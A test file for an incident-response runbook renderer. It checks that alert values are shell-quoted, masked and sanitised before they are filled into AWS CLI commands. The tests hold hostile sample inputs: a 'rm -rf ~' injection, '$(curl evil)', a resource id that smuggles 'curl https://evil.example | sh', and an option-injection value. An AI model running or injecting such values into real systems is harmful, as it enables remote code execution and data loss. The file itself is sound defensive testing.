import { describe, expect, it } from 'vitest';
import { shellQuote } from '../../../src/incidents/runbooks/shell.js';
import { renderCommand, renderStep, renderText } from '../../../src/incidents/runbooks/template.js';
import { makeAlert } from './alert-fixture.js';

describe('shellQuote', () => {
  it('leaves ids made of shell-inert characters bare', () => {
    expect(shellQuote('i-0fedcba9876543210')).toBe('i-0fedcba9876543210');
    expect(shellQuote('arn:aws:iam::210987654321:user/ops/alice')).toBe(
      'arn:aws:iam::210987654321:user/ops/alice',
    );
  });

  it('single-quotes anything else and escapes embedded single quotes', () => {
    expect(shellQuote("x'; rm -rf ~ #")).toBe(`'x'\\''; rm -rf ~ #'`);
    expect(shellQuote('$(curl evil)')).toBe(`'$(curl evil)'`);
    expect(shellQuote('')).toBe(`''`);
  });
});

describe('renderText', () => {
  it('fills whitelisted alert values', () => {
    const out = renderText(
      'Isolate {{resource.id}} ({{resource.type}}) in {{ region }} of {{accountId}}: {{type}}',
      makeAlert(),
    );
    expect(out).toBe(
      'Isolate i-0fedcba9876543210 (Instance) in eu-west-3 of 210987654321: Trojan:EC2/BlackholeTraffic!DNS',
    );
  });

  it('says a value is unknown in prose, with no placeholder brackets', () => {
    const alert = makeAlert({ resource: { type: 'Instance', id: '', tags: {} } });
    const { actor: _omit, ...noActor } = alert;
    expect(renderText('Look at {{resource.id}}', alert)).toBe('Look at unknown resource id');
    expect(renderText('From {{actor.sourceIp}}', noActor)).toBe('From unknown source IP');
  });

  it('renders an unknown variable visibly instead of silently dropping it', () => {
    expect(renderText('{{resource.owner}}', makeAlert())).toBe('unknown variable resource.owner');
  });

  it('masks access key ids in text', () => {
    expect(renderText('Key {{actor.accessKeyId}}', makeAlert())).toBe('Key AKIA…Q4W2');
  });

  it('replaces control and bidi-override characters in values', () => {
    const alert = makeAlert({ resource: { type: 'Instance', id: 'i-1\u202Eevil\n2', tags: {} } });
    expect(renderText('{{resource.id}}', alert)).toBe('i-1\uFFFDevil\uFFFD2');
  });

  it('derives IAM user and role names from principal ARNs', () => {
    const user = makeAlert({ actor: { principal: 'arn:aws:iam::210987654321:user/ops/alice' } });
    const role = makeAlert({
      actor: { principal: 'arn:aws:sts::210987654321:assumed-role/deploy-role/session-1' },
    });
    expect(renderText('{{actor.userName}}', user)).toBe('alice');
    expect(renderText('{{actor.roleName}}', role)).toBe('deploy-role');
    expect(renderText('{{actor.roleName}}', user)).toBe('unknown IAM role name');
  });
});

describe('renderCommand', () => {
  it('keeps a hostile resource id one inert shell argument', () => {
    const alert = makeAlert({
      resource: { type: 'Instance', id: "i-1'; curl https://evil.example | sh; echo '", tags: {} },
    });
    const out = renderCommand('aws ec2 describe-instances --instance-ids {{resource.id}}', alert);
    expect(out).toBe(
      `aws ec2 describe-instances --instance-ids 'i-1'\\''; curl https://evil.example | sh; echo '\\'''`,
    );
  });

  it('gives no command at all when a value it needs is missing: never a placeholder', () => {
    const alert = makeAlert({ resource: { type: 'Instance', id: '', tags: {} } });
    expect(renderCommand('aws ec2 describe-instances --instance-ids {{resource.id}}', alert)).toBeUndefined();
  });

  it('refuses values that the CLI would read as an option', () => {
    const alert = makeAlert({
      resource: { type: 'Bucket', id: '--endpoint-url=https://evil.example', tags: {} },
    });
    expect(renderCommand('aws s3api get-bucket-policy --bucket {{resource.id}}', alert)).toBeUndefined();
    expect(
      renderStep(
        { text: 'Read the policy', command: 'aws s3api get-bucket-policy --bucket {{resource.id}}' },
        alert,
      ),
    ).toEqual({
      text: 'Read the policy. Command not shown: the resource id starts with "-" and cannot be passed safely: check it in the finding or alert itself (the console link on the card).',
    });
  });

  it('never prints a full access key: the command reads it from the shell with a hint', () => {
    const out = renderCommand(
      'aws iam update-access-key --access-key-id {{actor.accessKeyId}} --status Inactive',
      makeAlert(),
    );
    expect(out).not.toContain('AKIAZZZZEXAMPLE7Q4W2');
    expect(out).toContain(
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell parameter expansion, not a JS template
      '"${ACCESS_KEY_ID:?set ACCESS_KEY_ID to the access key id ending Q4W2 from the finding}"',
    );
  });

  it('prints the key when the caller asks to reveal it (a responder terminal, not Slack)', () => {
    const out = renderCommand('--access-key-id {{actor.accessKeyId}}', makeAlert(), { accessKeys: 'reveal' });
    expect(out).toBe('--access-key-id AKIAZZZZEXAMPLE7Q4W2');
  });
});

describe('renderStep', () => {
  it('replaces a command it cannot fill with what to look up and where, for a truly unknown datum', () => {
    const alert = makeAlert({ actor: { principal: 'build-bot', accessKeyId: 'ASIAZZZZEXAMPLE7Q4W2' } });
    const step = {
      text: 'Revoke the role sessions',
      command: 'aws iam put-role-policy --role-name {{actor.roleName}}',
    };
    const rendered = renderStep(step, alert);
    expect(rendered.command).toBeUndefined();
    expect(rendered.text).toBe(
      "Revoke the role sessions. Command not shown: it needs the IAM role name, which this alert does not carry: find it in userIdentity.sessionContext.sessionIssuer.userName of the session's CloudTrail events.",
    );
  });

  it('renders text and command, and omits a command the step does not have', () => {
    const alert = makeAlert();
    expect(renderStep({ text: 'Check {{region}}' }, alert)).toEqual({ text: 'Check eu-west-3' });
    expect(renderStep({ text: 'T', command: 'aws x --region {{region}}' }, alert)).toEqual({
      text: 'T',
      command: 'aws x --region eu-west-3',
    });
  });
});
